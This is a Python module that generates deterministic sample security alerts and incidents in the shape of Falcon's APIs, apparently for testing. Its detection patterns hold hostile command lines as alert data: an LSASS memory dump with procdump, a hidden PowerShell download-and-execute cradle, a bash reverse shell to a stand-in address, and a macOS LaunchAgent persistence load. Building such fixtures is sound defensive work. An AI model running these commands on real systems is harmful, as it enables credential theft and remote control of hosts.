"""The sample tenant's alerts and incidents, on the sample hosts.

Alerts have Falcon's Alerts v2 shape: a ``composite_id`` (``<cid>:ind:<device id>:<detection>``,
the key of ``PostEntitiesAlertsV2``), the ``device`` they fired on (copied from the sample host),
MITRE tactic and technique, severity, status. Incidents group the hosts of related alerts, and
those alerts name their incident. Deterministic, as :mod:`._samples` is.
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from typing import Final

from ._sample_hosts import sample_hosts
from ._samples import SAMPLE_CID, sample_digest, sample_iso

__all__ = ["sample_alerts", "sample_incidents"]

_FIRST_ALERT: Final = datetime(2024, 6, 3, 7, 15, tzinfo=timezone.utc)
_ALERTS: Final = 24
_DEVICE_FIELDS: Final = (
    "device_id",
    "hostname",
    "platform_name",
    "os_version",
    "product_type_desc",
    "agent_version",
    "first_seen",
    "last_seen",
    "status",
    "local_ip",
    "mac_address",
    "tags",
)
# Falcon's alert statuses, and the incident statuses (numbers) of its incidents API.
_STATUSES: Final = ("new", "in_progress", "closed", "new", "reopened", "new")
_INCIDENT_STATUS: Final = {"new": 20, "reopened": 25, "in_progress": 30, "closed": 40}


@dataclass(frozen=True)
class _Pattern:
    """One kind of detection: what Falcon names it and where MITRE ATT&CK places it."""

    pattern_id: int
    name: str
    description: str
    tactic_id: str
    tactic: str
    technique_id: str
    technique: str
    objective: str
    scenario: str
    severity: int
    platforms: frozenset[str]
    filename: str
    cmdline: str


_PATTERNS: Final = (
    _Pattern(
        10304,
        "CredentialDumpingViaLsass",
        "A process accessed LSASS memory, as credential dumping tools do.",
        "TA0006",
        "Credential Access",
        "T1003",
        "OS Credential Dumping",
        "Gain Access",
        "credential_theft",
        90,
        frozenset({"Windows"}),
        "procdump64.exe",
        "procdump64.exe -ma lsass.exe lsass.dmp",
    ),
    _Pattern(
        20151,
        "SuspiciousPowerShellDownload",
        "PowerShell downloaded and ran a script from the internet.",
        "TA0002",
        "Execution",
        "T1059",
        "Command and Scripting Interpreter",
        "Follow Through",
        "suspicious_activity",
        70,
        frozenset({"Windows"}),
        "powershell.exe",
        "powershell.exe -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString(...)",
    ),
    _Pattern(
        5702,
        "EICARTestFileWritten",
        "A process has written a known EICAR test file.",
        "TA0002",
        "Execution",
        "T1204",
        "User Execution",
        "Follow Through",
        "attacker_methodology",
        10,
        frozenset({"Windows", "Mac", "Linux"}),
        "cat",
        "cat eicar.txt",
    ),
    _Pattern(
        41002,
        "ReverseShellFromWebServer",
        "A web server process opened a reverse shell to an outside address.",
        "TA0011",
        "Command and Control",
        "T1071",
        "Application Layer Protocol",
        "Keep Access",
        "intel_detection",
        80,
        frozenset({"Linux"}),
        "bash",
        "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    ),
    _Pattern(
        33210,
        "LaunchAgentPersistence",
        "A process added a launch agent that runs at every login.",
        "TA0003",
        "Persistence",
        "T1543",
        "Create or Modify System Process",
        "Keep Access",
        "suspicious_activity",
        50,
        frozenset({"Mac"}),
        "launchctl",
        "launchctl load ~/Library/LaunchAgents/com.update.agent.plist",
    ),
)
_SEVERITY_NAMES: Final = ((90, "Critical"), (70, "High"), (50, "Medium"), (30, "Low"))


def _severity_name(severity: int) -> str:
    return next((name for floor, name in _SEVERITY_NAMES if severity >= floor), "Informational")


@dataclass(frozen=True)
class _Planned:
    """Where and when one sample alert fires."""

    host: Mapping[str, object]
    pattern: _Pattern
    moment: datetime
    detection: str  # the last part of the alert's ids: <process id>-<pattern id>-<sequence>
    status: str


def _planned() -> list[_Planned]:
    hosts = sample_hosts()
    plans = []
    for index in range(_ALERTS):
        host = hosts[(index * 7 + 3) % len(hosts)]
        fitting = [p for p in _PATTERNS if host["platform_name"] in p.platforms]
        digest = bytes.fromhex(sample_digest(f"alert {index}"))
        pattern = fitting[digest[0] % len(fitting)]
        process = int.from_bytes(digest[1:7], "big")
        moment = _FIRST_ALERT + timedelta(hours=index * 26 + digest[7] % 12, minutes=digest[8])
        detection = f"{process}-{pattern.pattern_id}-{digest[9] * 256 + digest[10]}"
        plans.append(_Planned(host, pattern, moment, detection, _STATUSES[index % 6]))
    return plans


# Incidents gather alerts by the planned index: alerts of one intrusion, on one or more hosts.
_INCIDENT_ALERTS: Final = ((0, 1, 8), (2, 9), (4, 11, 18), (6, 13))


def _incident_id(plans: Sequence[_Planned], group: Sequence[int]) -> str:
    first = plans[group[0]].host["device_id"]
    return f"inc:{first}:{sample_digest(f'incident {group}')[:32]}"


def _incident_of(plans: Sequence[_Planned]) -> dict[int, str]:
    return {i: _incident_id(plans, group) for group in _INCIDENT_ALERTS for i in group}


def sample_alerts() -> list[dict[str, object]]:
    """The sample alerts (Falcon's Alerts v2 shape), newest last, keyed by ``composite_id``."""
    plans = _planned()
    incidents = _incident_of(plans)
    alerts = []
    for index, plan in enumerate(plans):
        device_id = str(plan.host["device_id"])
        pattern = plan.pattern
        indicator = f"ind:{device_id}:{plan.detection}"
        created = plan.moment + timedelta(minutes=1)
        alert: dict[str, object] = {
            "composite_id": f"{SAMPLE_CID}:{indicator}",
            "id": indicator,
            "indicator_id": indicator,
            "aggregate_id": f"aggind:{device_id}:{plan.detection.split('-')[0]}",
            "agent_id": device_id,
            "type": "ldt",
            "product": "epp",
            "platform": plan.host["platform_name"],
            "device": {name: plan.host[name] for name in _DEVICE_FIELDS},
            "name": pattern.name,
            "display_name": pattern.name,
            "description": pattern.description,
            "pattern_id": pattern.pattern_id,
            "tactic_id": pattern.tactic_id,
            "tactic": pattern.tactic,
            "technique_id": pattern.technique_id,
            "technique": pattern.technique,
            "objective": pattern.objective,
            "scenario": pattern.scenario,
            "severity": pattern.severity,
            "severity_name": _severity_name(pattern.severity),
            "confidence": 80 + index % 3 * 10,
            "status": plan.status,
            "show_in_ui": True,
            "email_sent": False,
            "tags": [],
            "filename": pattern.filename,
            "cmdline": pattern.cmdline,
            "timestamp": sample_iso(plan.moment),
            "created_timestamp": sample_iso(created),
            "updated_timestamp": sample_iso(created + timedelta(hours=index % 5)),
        }
        if plan.status != "new":
            alert["assigned_to_uid"] = "bruno.costa@example.com"
            alert["assigned_to_name"] = "Bruno Costa"
        if index in incidents:
            alert["incident"] = {"id": incidents[index], "created": alert["created_timestamp"]}
        alerts.append(alert)
    return alerts


def sample_incidents() -> list[dict[str, object]]:
    """The sample incidents (Falcon's incidents API shape), each grouping the hosts of its
    alerts (``host_ids``, ``hosts``), with their tactics and techniques."""
    plans = _planned()
    incidents = []
    for number, group in enumerate(_INCIDENT_ALERTS):
        members = [plans[i] for i in group]
        hosts = list({str(p.host["device_id"]): p.host for p in members}.values())
        start = min(p.moment for p in members)
        end = max(p.moment for p in members)
        worst = max(p.pattern.severity for p in members)
        status = members[-1].status
        incidents.append(
            {
                "incident_id": _incident_id(plans, group),
                "incident_type": 1,
                "name": f"Incident on {hosts[0]['hostname']} at {sample_iso(start)}",
                "description": "Objectives in this incident: "
                + ", ".join(sorted({p.pattern.objective for p in members})),
                "host_ids": [h["device_id"] for h in hosts],
                "hosts": [{name: h[name] for name in _DEVICE_FIELDS} for h in hosts],
                "created": sample_iso(start),
                "start": sample_iso(start),
                "end": sample_iso(end),
                "modified_timestamp": sample_iso(end + timedelta(hours=2)),
                "state": "closed" if status == "closed" else "open",
                "status": _INCIDENT_STATUS[status],
                "fine_score": worst * 10 + number,
                "tactics": sorted({p.pattern.tactic for p in members}),
                "techniques": sorted({p.pattern.technique for p in members}),
                "objectives": sorted({p.pattern.objective for p in members}),
                "users": [],
                "tags": [],
                "visibility": 1,
                "lm_host_ids": [],
                "lm_hosts_capped": False,
                "email_state": "",
            }
        )
    return incidents
